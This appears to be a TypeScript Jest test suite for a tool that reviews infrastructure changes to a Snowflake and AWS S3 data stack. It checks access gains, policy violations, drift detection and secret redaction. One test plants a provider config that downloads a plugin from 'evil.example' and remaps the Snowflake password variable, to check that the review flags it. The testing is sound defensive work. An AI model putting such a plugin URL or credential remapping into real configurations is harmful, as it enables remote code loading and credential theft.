import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { COMMENT_LIMIT } from "../../review/verdict-page.ts";
import { type Reviewed, ReviewStack } from "./support/review-stack.ts";

const BUCKET = "flux-review-raw-111111111111";
const TABLE = "FLUX_REVIEW.PRODUCTION.AMI_INTERVAL_READINGS";
const ROLE = "role flux-review-snowflake-raw-ami";
const config = {
  "aws:region": "us-east-1",
  awsAccountId: "111111111111",
  bucketName: BUCKET,
  adoptBucket: true,
  bucketGuards: "manage",
  protect: false,
  externalId: "flux-7f3c9a1e5b2d4860",
};

/** Reports that people have read and found right; `UPDATE_PREVIEWS=1` writes them anew, to be read again. */
const REVIEWED = join(__dirname, "..", "fixtures", "previews");

/** What differs from run to run: times, days and addresses of the sandbox. */
function steady(report: string): string {
  return report
    .replace(/\b\d{4}-\d\d-\d\d[ T]\d\d:\d\d:\d\d[.\d]*( ?[+-]\d\d:?\d\d| UTC|Z)?( UTC)?/g, "<time>")
    .replace(/\b202\d-\d\d-\d\d\b/g, "<day>")
    .replace(/\b(01[0-9a-f]{6}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\b/g, "<query>")
    .replace(/\b[0-9a-f]{16}\b(?=")/g, "<listing>");
}

function expectReviewed(name: string, { report }: Reviewed): void {
  const file = join(REVIEWED, `${name}.md`);
  if (process.env.UPDATE_PREVIEWS) {
    mkdirSync(REVIEWED, { recursive: true });
    writeFileSync(file, steady(report));
  }
  expect(steady(report)).toBe(readFileSync(file, "utf8"));
}

const gains = ({ review }: Reviewed) =>
  review.access.gains.map(({ who, action, where }) => `${who} ${action} ${where}`);
const losses = ({ review }: Reviewed) =>
  review.access.losses.map(({ who, action, where }) => `${who} ${action} ${where}`);
const dangers = ({ review }: Reviewed) => review.dangers.map(({ what }) => what);

describe("the review of a change", () => {
  let stack: ReviewStack;
  jest.setTimeout(600_000);

  beforeAll(async () => {
    stack = await ReviewStack.start("review", config);
    stack.seed(BUCKET, 5, 2);
    const { exitCode, output } = await stack.up("--skip-preview");
    if (exitCode !== 0) throw new Error(`the stack did not come up: ${output}`);
  });
  afterAll(() => stack?.stop());
  afterEach(() => {
    stack.restore();
    stack.configure(config);
  });

  test("nothing changed", async () => {
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(0);
    expect(reviewed.review.verdict).toBe("nothing");
    expect(reviewed.report).toContain("**Nothing changes.**");
    expect(reviewed.report).toContain("No change of access.");
  });

  test("the integration renamed: refused, because a living stack keeps its names", async () => {
    stack.configure({ ...config, integrationName: "FLUX_REVIEW_S3" });
    await expect(stack.preview()).rejects.toThrow(
      /The preview failed[\s\S]*a living stack keeps its names; nothing was renamed[\s\S]*the config now calls it FLUX_REVIEW_S3/,
    );
  });

  test("the prefix widened: who gains what is named, and a policy stops it", async () => {
    stack.configure({ ...config, prefix: "raw/", readingsPath: "ami/ami_interval_readings/" });
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(4);
    expect(gains(reviewed)).toEqual(
      expect.arrayContaining([
        `${ROLE} s3:GetObject ${BUCKET}/raw/*`,
        `${ROLE} s3:ListBucket ${BUCKET}/raw/*`,
      ]),
    );
    expect(losses(reviewed)).toEqual([]);
    expect(dangers(reviewed)).toContain(`Access widens for ${ROLE}.`);
    expect(new Set(reviewed.review.violations.map(({ policy }) => policy))).toEqual(
      new Set(["integration-stays-on-prefix", "reads-prefix-only"]),
    );
    expectReviewed("prefix-widened", reviewed);
  });

  test("the external ID changed: the old one loses, the new one gains", async () => {
    stack.configure({ ...config, externalId: "flux-0000000000000000" });
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(3);
    const how = (list: readonly { action: string; how: string }[]) =>
      list.filter(({ action }) => action === "sts:AssumeRole").map((change) => change.how);
    expect(how(reviewed.review.access.gains)).toEqual(["with external ID flux-0000000000000000"]);
    expect(how(reviewed.review.access.losses)).toEqual(["with external ID flux-7f3c9a1e5b2d4860"]);
    expectReviewed("external-id-changed", reviewed);
  });

  test("the warehouse resized: a change like another", async () => {
    stack.configure({ ...config, warehouseSize: "SMALL" });
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(2);
    expect(reviewed.review.access.sameMeaning).toBe(true);
    expect(reviewed.report).toMatch(/- warehouseSize: MEDIUM\n\+ warehouseSize: SMALL/);
    expectReviewed("warehouse-resized", reviewed);
  });

  test("a login that another plugin makes: the engine calls it the same, and the review does not", async () => {
    const elsewhere =
      'pluginDownloadURL: "https://evil.example/x", envVarMappings: { OTHER: "SNOWFLAKE_PASSWORD" }';
    stack.edit("config/snowflake-provider.ts", "{ transformations:", `{ ${elsewhere}, transformations:`);
    const reviewed = await stack.preview("--no-refresh");
    expect(reviewed.review.changes).toEqual([]);
    expect(dangers(reviewed)).toEqual([
      "The login snowflake (snowflake) has another envVarMappings, which the engine keeps.",
      "The login snowflake (snowflake) has another pluginDownloadURL, which the engine keeps.",
    ]);
    expect(reviewed.exitCode).toBe(3);
  });

  test("a column added: the table is altered, nothing is lost", async () => {
    stack.edit(
      "components/readings-columns.ts",
      "] as const satisfies",
      '  { name: "READ_AT", type: "DATE", comment: "Day of the reading" },\n] as const satisfies',
    );
    const reviewed = await stack.preview();
    expect(dangers(reviewed)).toEqual([]);
    expect(reviewed.exitCode).toBe(2);
    expect(reviewed.report).toContain("READ_AT");
    expectReviewed("column-added", reviewed);
  });

  test("the stage moved to a folder below: access narrows", async () => {
    stack.configure({ ...config, prefix: "raw/ami/ami_interval_readings/", readingsPath: "new/" });
    const reviewed = await stack.preview();
    expect(gains(reviewed)).toEqual([]);
    expect(losses(reviewed)).toContain(`${ROLE} s3:GetObject ${BUCKET}/raw/ami/*`);
    expectReviewed("stage-moved", reviewed);
  });

  test("a partner added: they gain reading under the prefix, and nobody else gains anything", async () => {
    const partner = {
      kind: "partner",
      owner: "review",
      way: "bucketAccess",
      partnerPrincipal: "222222222222",
    };
    stack.configure(partner, "gridworks");
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(3);
    expect(new Set(reviewed.review.access.gains.map(({ who }) => who))).toEqual(new Set(["222222222222"]));
    expect(gains(reviewed)).toContain(`222222222222 s3:GetObject ${BUCKET}/raw/ami/*`);
    expect(gains(reviewed).filter((text) => /Put|Delete|BucketPolicy/.test(text))).toEqual([]);
    expectReviewed("partner-added", reviewed);
  });

  test("a policy violated: named first, with the cure", async () => {
    stack.configure({ ...config, loadWarehouseSize: "XXXLARGE" });
    const reviewed = await stack.preview();
    expect(reviewed.exitCode).toBe(4);
    expect(reviewed.report).toContain("**Stopped by a policy:** `warehouse-size-within-limit`");
    expectReviewed("policy-violated", reviewed);
  });

  test("a report fits into a comment and shows no secret", async () => {
    const { password } = stack.sandbox.accounts.owner.snowflake;
    const reviewed = await stack.preview("--no-refresh");
    expect(Buffer.byteLength(reviewed.report)).toBeLessThanOrEqual(COMMENT_LIMIT);
    for (const text of [reviewed.report, JSON.stringify(reviewed.review), reviewed.output]) {
      expect(text).not.toContain(password);
      expect(text).not.toContain(stack.sandbox.accounts.owner.aws.secretAccessKey);
    }
  });

  test("what was reviewed is applied, files that arrived with it, and nothing else", async () => {
    stack.configure({ ...config, warehouseSize: "SMALL" });
    await stack.preview();
    // Files that arrive after the review are loaded along, and stop nothing.
    stack.seed(BUCKET, 5, 3);
    expect(await stack.apply()).toMatchObject({ exitCode: 0 });
    expect(await stack.sql("SHOW WAREHOUSES LIKE 'FLUX_REVIEW_LOAD_WH'")).toMatchObject([{ size: "Small" }]);

    stack.configure({ ...config, warehouseSize: "XSMALL" });
    const refused = await stack.apply();
    expect(refused.exitCode).not.toBe(0);
    expect(refused.output).toMatch(
      /nothing was changed\. This is not what was reviewed:\s+update: the warehouse/,
    );
    expect(await stack.sql("SHOW WAREHOUSES LIKE 'FLUX_REVIEW_LOAD_WH'")).toMatchObject([{ size: "Small" }]);
  });

  test("drift is seen, told and healed: a resize, a dropped stage, an edited trust, a lost bucket policy, an emptied table", async () => {
    stack.configure(config);
    expect((await stack.up("--skip-preview", "--refresh")).exitCode).toBe(0);
    expect((await stack.drift()).report).toContain("**No drift:**");
    const rows = async () =>
      Number((await stack.sql(`SELECT COUNT(*) AS "rows" FROM ${TABLE}`, "FLUX_REVIEW_LOAD_WH"))[0]?.rows);
    const before = await rows();

    await stack.sql("ALTER WAREHOUSE FLUX_REVIEW_LOAD_WH SET WAREHOUSE_SIZE = 'LARGE'");
    await stack.sql("DROP STAGE FLUX_REVIEW.PRODUCTION.EXT_RAW_AMI");
    await stack.sql(`TRUNCATE TABLE ${TABLE}`);
    await stack.tamper(BUCKET, "flux-review-snowflake-raw-ami");

    const drifted = await stack.drift();
    expect(drifted.exitCode).toBe(3);
    expect(drifted.review.drift.map(({ name, operation }) => `${operation} ${name}`).sort()).toEqual([
      "delete ami-stage",
      "delete loader-stage",
      "update compute-warehouse",
      "update load",
      "update raw-policy",
      "update trust-role",
    ]);
    expect(drifted.report).toContain("**The stage EXT_RAW_AMI is gone.**");
    expect(drifted.report).toContain(
      "- The IAM role flux-review-snowflake-raw-ami was changed: `assumeRolePolicy`.",
    );
    expect(gains(drifted)).toContain(`arn:aws:iam::333333333333:root sts:AssumeRole ${ROLE}`);
    expect(gains(drifted).some((text) => text.includes("s3:GetObject"))).toBe(true);
    expectReviewed("drift", drifted);

    expect(await stack.up("--skip-preview", "--refresh")).toMatchObject({ exitCode: 0 });
    expect((await stack.drift()).report).toContain("**No drift:**");
    expect(await rows()).toBe(before);
  });
});
